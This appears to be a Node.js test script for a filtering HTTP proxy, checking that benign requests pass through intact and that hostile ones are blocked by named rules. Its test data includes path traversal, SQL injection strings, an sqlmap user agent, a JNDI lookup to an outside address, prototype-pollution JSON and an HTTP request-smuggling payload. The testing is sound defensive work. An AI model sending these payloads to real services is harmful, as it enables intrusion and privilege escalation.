// Starts an upstream and the proxy on loopback ports, sends requests and checks what became of each: `npm run example:proxy`.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import http from "node:http";
import net from "node:net";
import { buffer, json, text } from "node:stream/consumers";
import { fileURLToPath } from "node:url";

const JSON_TYPE = { "content-type": "application/json" };
/** What the upstream got, by the path it was sent to. */
const received = [];

const upstream = http.createServer(async (request, response) => {
  const body = await buffer(request);
  received.push({ method: request.method, target: request.url, rawHeaders: request.rawHeaders, body });
  if (request.url === "/broken") return request.socket.destroy();
  response.setHeader("set-cookie", ["a=1", "b=2"]);
  response.setHeader("keep-alive", "timeout=7");
  response.end(`upstream saw ${body.length} bytes`);
});
upstream.listen(0, "127.0.0.1");
await once(upstream, "listening");

const proxy = spawn(
  process.execPath,
  [
    fileURLToPath(new URL("proxy.mjs", import.meta.url)),
    ...["--listen", "127.0.0.1:0", "--upstream", `http://127.0.0.1:${upstream.address().port}`],
  ],
  { stdio: ["ignore", "pipe", "pipe"] },
);
const closed = once(proxy, "close");
const log = text(proxy.stdout);
const [greeting] = await once(proxy.stderr.setEncoding("utf8"), "data");
const port = Number(/listening on .*:(\d+)/.exec(greeting)?.[1]);
assert.ok(port > 0, greeting);

/** Name, request, and the rule that blocks it; or the status and, of what the proxy says itself, the error. */
const CASES = [
  ["an ordinary request", { path: "/static/app.js?v=1" }, { status: 200 }],
  [
    "a JSON body",
    { method: "POST", path: "/orders", headers: JSON_TYPE, body: '{ "items": [\r\n{"quantity": 9007199254740991}] }' },
    { status: 200 },
  ],
  ["a form", { method: "POST", path: "/search", body: "q=socks" }, { status: 200 }],
  [
    "bytes that are no text",
    { method: "PUT", path: "/files/1", body: Buffer.from([0, 255, 128, 34, 10]) },
    { status: 200 },
  ],
  ["an empty body", { method: "POST", path: "/ping", headers: JSON_TYPE }, { status: 200 }],
  [
    "a body in chunks",
    {
      method: "POST",
      path: "/orders",
      headers: { ...JSON_TYPE, "transfer-encoding": "chunked" },
      body: '{"items":[]}',
    },
    { status: 200 },
  ],
  ["an encoded path", { path: "/static/%2e%2e/secret" }, { rule: "HTTP.PathTraversal" }],
  ["a scanner", { headers: { "User-Agent": "sqlmap/1.8" } }, { rule: "HTTP.ScannerUserAgent" }],
  [
    "a scanner in the second of two headers",
    { headers: { "User-Agent": ["Mozilla/5.0", "sqlmap/1.8"] } },
    { rule: "HTTP.ScannerUserAgent" },
  ],
  ["an encoded query", { path: "/items?id=1+%55NION%20select%20password" }, { rule: "HTTP.SqlInjection" }],
  ["a form with SQL", { method: "POST", path: "/search", body: "q=' or 1=1" }, { rule: "HTTP.SqlInjection" }],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
  ["a JNDI lookup", { headers: { "x-api-version": "${jndi:ldap://203.0.113.7/a}" } }, { rule: "HTTP.LogInjection" }],
  [
    "a prototype",
    { method: "POST", path: "/profile", headers: JSON_TYPE, body: '{"__proto__":{"isAdmin":true}}' },
    { rule: "HTTP.PrototypePollution" },
  ],
  [
    "JSON under another type",
    { method: "POST", path: "/profile", headers: { "content-type": "text/plain" }, body: '{"__proto__":{}}' },
    { rule: "HTTP.PrototypePollution" },
  ],
  [
    "an escaped key, and one that comes twice",
    { method: "PATCH", path: "/users/7", headers: JSON_TYPE, body: '{"role":"user","r\\u006fle":"ADMIN"}' },
    { rule: "HTTP.SelfMadeAdministrator" },
  ],
  [
    "a number beyond 2^53",
    { method: "POST", path: "/orders", headers: JSON_TYPE, body: '{"items":[{"quantity":9007199254740992}]}' },
    { rule: "HTTP.ImpossibleQuantity" },
  ],
  [
    "malformed JSON",
    { method: "POST", path: "/orders", headers: JSON_TYPE, body: '{"items":[' },
    { status: 400, error: "malformed-json" },
  ],
  [
    "JSON that is not UTF-8",
    { method: "POST", path: "/orders", headers: JSON_TYPE, body: Buffer.from('{"a":"\xff"}', "latin1") },
    { status: 400, error: "malformed-json" },
  ],
  [
    "nesting that nobody judges",
    { method: "POST", path: "/orders", headers: JSON_TYPE, body: `${"[".repeat(1024)}${"]".repeat(1024)}` },
    { status: 400, error: "cannot-be-judged" },
  ],
  [
    "a body over the limit",
    { method: "POST", path: "/files/1", body: Buffer.alloc(1024 * 1024 + 1, 32) },
    { status: 413, error: "body-too-large" },
  ],
  [
    "a body that is compressed",
    { method: "POST", path: "/files/1", headers: { "content-encoding": "gzip" }, body: "\x1f\x8b" },
    { status: 415, error: "encoded-body" },
  ],
  ["a target that is no path", { path: "http://example.com/" }, { status: 400, error: "unsupported-target" }],
  ["an upstream that breaks off", { path: "/broken" }, { status: 502, error: "upstream-error" }],
];

for (const [name, request, expected] of CASES) {
  const before = received.length;
  const answer = await send(request);
  const passed = expected.status === 200 || expected.status === 502;
  assert.equal(answer.status, expected.status ?? 403, name);
  assert.equal(received.length - before, passed ? 1 : 0, `${name}: what the upstream got`);
  if (expected.status === 200) checkPassedOn(name, request, answer, received.at(-1));
  else assert.equal(answer.json[expected.rule ? "rule" : "error"], expected.rule ?? expected.error, name);
  console.log(`${answer.status}  ${(expected.rule ?? expected.error ?? "").padEnd(28)} ${name}`);
}
await hopByHopFieldsStay();
await smugglingFails();

proxy.kill("SIGTERM");
upstream.close();
upstream.closeAllConnections();
assert.deepEqual(await closed, [0, null]);
const entries = (await log)
  .trim()
  .split("\n")
  .map((line) => JSON.parse(line));
assert.ok(
  entries.some(({ status, rules }) => status === 403 && rules.includes("HTTP.PathTraversal")),
  "the log names the rule",
);
console.log(`${CASES.length} requests judged as expected`);

/** Unlike `fetch`, this sends a target as it is. */
async function send({ method = "GET", path = "/", headers = {}, body = "" }) {
  const request = http.request({ host: "127.0.0.1", port, method, path, headers, agent: false });
  request.end(body);
  const [response] = await once(request, "response");
  const { statusCode: status, headers: answered } = response;
  if (answered["content-type"] === "application/json") return { status, headers: answered, json: await json(response) };
  return { status, headers: answered, text: await text(response) };
}

function checkPassedOn(name, { method = "GET", path = "/", body = "" }, answer, got) {
  assert.deepEqual([got.method, got.target], [method, path], name);
  assert.ok(got.body.equals(Buffer.from(body)), `${name}: the body changed`);
  assert.equal(answer.text, `upstream saw ${got.body.length} bytes`, name);
  assert.deepEqual(answer.headers["set-cookie"], ["a=1", "b=2"], name);
  assert.notEqual(answer.headers["keep-alive"], "timeout=7", name);
}

async function hopByHopFieldsStay() {
  await send({
    headers: {
      Connection: "close, X-Secret",
      "X-Secret": "1",
      TE: "trailers",
      "X-Kept": "2",
      "X-Forwarded-For": "198.51.100.1",
    },
  });
  const names = received
    .at(-1)
    .rawHeaders.filter((_, index) => index % 2 === 0)
    .map((name) => name.toLowerCase());
  for (const name of ["x-secret", "te"]) assert.ok(!names.includes(name), `${name} was forwarded`);
  const values = received.at(-1).rawHeaders;
  assert.equal(values[names.indexOf("x-kept") * 2 + 1], "2");
  assert.equal(values[names.indexOf("x-forwarded-for") * 2 + 1], "198.51.100.1, 127.0.0.1");
}

/** Both kinds of framing in one request: whichever the proxy believed, the upstream must not see a second request. */
async function smugglingFails() {
  const before = received.length;
  const socket = net.connect(port, "127.0.0.1");
  const hidden = "GET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
  socket.end(
    `POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: ${hidden.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  );
  assert.match(await text(socket), /^HTTP\/1\.1 400 /);
  assert.equal(received.length, before, "a smuggled request reached the upstream");
}
